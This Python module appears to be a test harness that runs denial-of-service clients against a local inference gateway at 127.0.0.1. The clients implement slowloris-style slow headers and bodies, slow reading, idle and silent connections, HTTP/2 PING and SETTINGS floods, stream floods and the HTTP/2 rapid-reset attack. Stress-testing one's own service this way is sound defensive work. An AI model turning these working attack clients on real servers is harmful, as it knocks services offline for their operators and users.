"""Clients that attack a gateway, in a process of their own, which is told how by lines `KIND PORT COUNT RATE`.

They hold COUNT connections from several addresses of this machine and begin RATE new ones a second at most, as
slowhttptest does; what floods on a connection that stands does so RATE times a second in all. Once all have begun, it
says so; an empty line ends the attack.
"""

import asyncio
import contextlib
import itertools
import json
import socket
import sys
from collections.abc import Awaitable, Callable

from gateway.upstream.http2 import frames
from gateway.upstream.http2.frames import ErrorCode, frame
from gateway.upstream.http2.headers import encode
from gateway.upstream.triton.raw import SERVICE
from headrace.bench.kserve.messages import STREAM, text_request
from tests.harness import CHAT

ADDRESSES = [f"127.0.0.{number}" for number in range(2, 12)]
SLOWLY_S = 5.0
LARGE = json.dumps({**CHAT, "user": "large"}).encode()
CALL = encode(
    (
        *((":method", "POST"), (":scheme", "http"), (":path", f"/{SERVICE}/ModelStreamInfer"), (":authority", "x")),
        *(("te", "trailers"), ("content-type", "application/grpc")),
    )
)
_REQUEST = text_request(STREAM)
MESSAGE = b"\0" + len(_REQUEST).to_bytes(4) + _REQUEST


class Pace:
    """Lets RATE pass a second, whoever waits."""

    def __init__(self, rate: float) -> None:
        self._every = 1 / rate
        self._next = asyncio.get_running_loop().time()

    async def __call__(self) -> None:
        now = asyncio.get_running_loop().time()
        self._next = max(self._next + self._every, now - 0.1)
        await asyncio.sleep(max(self._next - now, 0))


Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter, Pace], Awaitable[None]]


async def slow_header(_: asyncio.StreamReader, writer: asyncio.StreamWriter, __: Pace) -> None:
    writer.write(b"GET /v1/models HTTP/1.1\r\nhost: x\r\n")
    while True:
        await asyncio.sleep(SLOWLY_S)
        writer.write(b"x: y\r\n")
        await writer.drain()


async def slow_body(_: asyncio.StreamReader, writer: asyncio.StreamWriter, __: Pace) -> None:
    writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-length: 10000\r\n\r\n")
    while True:
        await asyncio.sleep(SLOWLY_S)
        writer.write(b" ")
        await writer.drain()


async def slow_reader(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _: Pace) -> None:
    writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-length: %d\r\n\r\n" % len(LARGE) + LARGE)
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    await asyncio.Event().wait()


async def idle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _: Pace) -> None:
    writer.write(b"GET /v2/health/live HTTP/1.1\r\nhost: x\r\n\r\n")
    while await reader.read(65536):
        pass


async def connect_and_close(_: asyncio.StreamReader, __: asyncio.StreamWriter, ___: Pace) -> None:
    return


async def silence(reader: asyncio.StreamReader, _: asyncio.StreamWriter, __: Pace) -> None:
    await reader.read(1)


async def http2_preface(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _: Pace) -> None:
    writer.write(frames.PREFACE + frames.settings({}))
    while await reader.read(65536):
        pass


async def _flood(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, pace: Pace, more: Callable[[], bytes]
) -> None:
    """Send `more` at the pace, reading what comes."""
    writer.write(frames.PREFACE + frames.settings({}))
    reading = asyncio.create_task(reader.read(-1))
    try:
        while not reading.done():
            await pace()
            writer.write(more())
            await writer.drain()
    finally:
        reading.cancel()


async def pings(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, pace: Pace) -> None:
    await _flood(reader, writer, pace, lambda: frame(frames.PING, 0, 0, bytes(8)))


async def settings(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, pace: Pace) -> None:
    await _flood(reader, writer, pace, lambda: frames.settings({}))


async def rapid_reset(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, pace: Pace) -> None:
    numbers = itertools.count(1, 2)

    def reset() -> bytes:
        number = next(numbers)
        begun = frame(frames.HEADERS, frames.END_HEADERS, number, CALL) + frame(frames.DATA, 0, number, MESSAGE)
        return begun + frames.rst_stream(number, ErrorCode.CANCEL)

    await _flood(reader, writer, pace, reset)


async def streams(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, pace: Pace) -> None:
    numbers = itertools.count(1, 2)
    await _flood(reader, writer, pace, lambda: frame(frames.HEADERS, frames.END_HEADERS, next(numbers), CALL))


HTTP: dict[str, Attack] = {
    one.__name__: one for one in (slow_header, slow_body, slow_reader, idle, connect_and_close, silence, http2_preface)
}
GRPC: dict[str, Attack] = {one.__name__: one for one in (pings, settings, rapid_reset, streams, silence)}


async def connected(address: str, port: int) -> socket.socket:
    """A connection from `address` that takes little of what is not read. Raises OSError."""
    made = socket.socket()
    try:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        made.setblocking(False)
        made.bind((address, 0))
        await asyncio.get_running_loop().sock_connect(made, ("127.0.0.1", port))
    except BaseException:
        made.close()
        raise
    return made


async def attack(kind: str, port: int, count: int, rate: float, all_begun: asyncio.Event) -> None:
    """Attack until cancelled."""
    pace, flooding = Pace(rate), Pace(rate)
    begun: set[int] = set()

    async def one(number: int) -> None:
        address = ADDRESSES[number % len(ADDRESSES)]
        while True:
            await pace()
            begun.add(number)
            if len(begun) == count:
                all_begun.set()
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(sock=await connected(address, port))
                try:
                    await {**HTTP, **GRPC}[kind](reader, writer, flooding)
                finally:
                    writer.transport.abort()

    await asyncio.gather(*(one(number) for number in range(count)))


async def main() -> None:
    loop = asyncio.get_running_loop()
    under_way: asyncio.Task[None] | None = None
    while line := await loop.run_in_executor(None, sys.stdin.readline):
        if under_way is not None:
            under_way.cancel()
            await asyncio.gather(under_way, return_exceptions=True)
            under_way = None
        if words := line.split():
            kind, port, count, rate = words
            begun = asyncio.Event()
            under_way = asyncio.create_task(attack(kind, int(port), int(count), float(rate), begun))
            await begun.wait()
        print("done", flush=True)


if __name__ == "__main__":
    asyncio.run(main())
